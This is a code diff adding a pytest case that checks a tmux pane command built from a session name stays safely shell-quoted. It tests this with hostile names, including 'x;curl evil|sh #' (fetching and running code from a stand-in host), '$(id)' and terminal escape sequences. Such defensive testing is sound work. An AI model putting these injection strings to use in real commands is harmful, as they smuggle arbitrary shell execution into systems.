@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shlex
 import shutil
 import subprocess
 import sys
@@ -15,6 +16,7 @@ import pytest
 from agentwatch.base.local_socket import short_folder
 from agentwatch.screen.screens.sessions import rings
 from agentwatch.screen.screens.sessions.rings import go_to_pane, pane_of
+from agentwatch.text.safe import cut, safe_line
 from tests.builders.home.home_app import row
 from tests.builders.machine.app import at_home
 from tests.conftest import case
@@ -54,6 +56,13 @@ def test_a_pane_of_tmux_is_named_or_refused(monkeypatch: pytest.MonkeyPatch) -> 
     assert pane is not None
     words = "session runs in tmux pane main:@0.%0: tmux attach -t main"
     assert go_to_pane(pane, None, {}) == words
+    # A foreign name of any length is one word of a shell into which they are copied.
+    for name in ("x;curl evil|sh #", "$(id)", "a'b", "\n\x1b[2J", "-x", "x" * 50 + "'"):
+        with case(name):
+            hostile = pane_of(f"{name}:@0.%0")
+            assert hostile is not None
+            _, _, command = go_to_pane(hostile, None, {}).rpartition(": ")
+            assert shlex.split(command) == ["tmux", "attach", "-t", cut(safe_line(name), 40)]
     # A tmux that is not installed, or does not answer in time, is reported.
     environ = {"TMUX": "/gone,1,0"}
     monkeypatch.setattr("shutil.which", lambda _: None)
